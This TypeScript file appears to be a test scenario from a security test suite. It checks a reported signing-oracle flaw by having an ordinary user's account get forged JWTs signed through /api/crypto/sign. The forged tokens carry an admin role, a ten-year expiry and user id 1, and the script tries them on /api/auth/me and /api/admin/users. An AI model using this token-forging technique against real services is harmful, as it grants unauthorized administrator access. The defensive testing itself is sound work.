// The signing oracle (issue 12, finding 1): a signed-in user asks POST /api/crypto/sign to sign
// the `header.payload` of an access token of their own making (role admin, a ten-year `exp`),
// then presents the result. SUCCEEDED when a token so made gets a 2xx from GET /api/auth/me or
// GET /api/admin/users, or when the signing key is one the token JWKS publishes.

import { isAccepted, outcomeLabel } from '../attacker.ts';
import { expectAccepted, newAccount } from '../accounts.ts';
import type { Scenario } from '../scenario.ts';

const TARGETS = ['/api/auth/me', '/api/admin/users'] as const;
const TEN_YEARS_S = 10 * 365 * 86_400;

const encode = (part: unknown): string => Buffer.from(JSON.stringify(part)).toString('base64url');

function claimsOf(token: string): Record<string, unknown> {
  const value: unknown = JSON.parse(
    Buffer.from(token.split('.')[1] ?? '', 'base64url').toString('utf8'),
  );
  return typeof value === 'object' && value !== null ? (value as Record<string, unknown>) : {};
}

function publishedKids(jwks: Record<string, unknown>): string[] {
  const keys = Array.isArray(jwks.keys) ? (jwks.keys as { kid?: unknown }[]) : [];
  return keys.map((k) => (typeof k.kid === 'string' ? k.kid : ''));
}

export const signingOracle: Scenario = {
  name: 'signing-oracle',
  async run({ attacker, tally }) {
    const account = await newAccount(attacker);
    const kids = publishedKids(
      expectAccepted(
        'GET /.well-known/jwks.json',
        await attacker.send('GET', '/.well-known/jwks.json'),
      ),
    );
    const claims = claimsOf(account.token);
    const now = Math.floor(Date.now() / 1000);
    const payloads: [string, Record<string, unknown>][] = [
      ['own session, role admin', { ...claims, role: 'admin', iat: now, exp: now + TEN_YEARS_S }],
      ['own session, ten-year exp', { ...claims, iat: now, exp: now + TEN_YEARS_S }],
      ['user 1, role admin', { ...claims, sub: '1', role: 'admin', exp: now + TEN_YEARS_S }],
    ];

    const got: string[] = [];
    for (const [label, payload] of payloads) {
      const signingInput = `${encode({ alg: 'ES256', typ: 'at+jwt', kid: kids[0] ?? '' })}.${encode(payload)}`;
      const signed = tally.record(
        await attacker.send('POST', '/api/crypto/sign', {
          token: account.token,
          json: { data: signingInput },
        }),
      );
      if (!isAccepted(signed)) continue;
      const body = signed.body as { signature?: unknown; key_id?: unknown };
      if (typeof body.key_id === 'string' && kids.includes(body.key_id)) {
        got.push(`/api/crypto/sign signs with token key ${body.key_id}`);
      }
      const signature =
        typeof body.signature === 'string'
          ? Buffer.from(body.signature, 'base64').toString('base64url')
          : '';
      for (const path of TARGETS) {
        const outcome = tally.record(
          await attacker.send('GET', path, { token: `${signingInput}.${signature}` }),
        );
        if (isAccepted(outcome)) got.push(`${label} on ${path} (${outcomeLabel(outcome)})`);
      }
    }
    return {
      succeeded: got.length > 0,
      notes:
        got.length > 0
          ? [`token signed by /api/crypto/sign accepted: ${got.join(', ')}`]
          : [
              `${payloads.length} tokens signed through /api/crypto/sign x ${TARGETS.length} routes, none accepted; its key is not in the JWKS`,
            ],
    };
  },
};
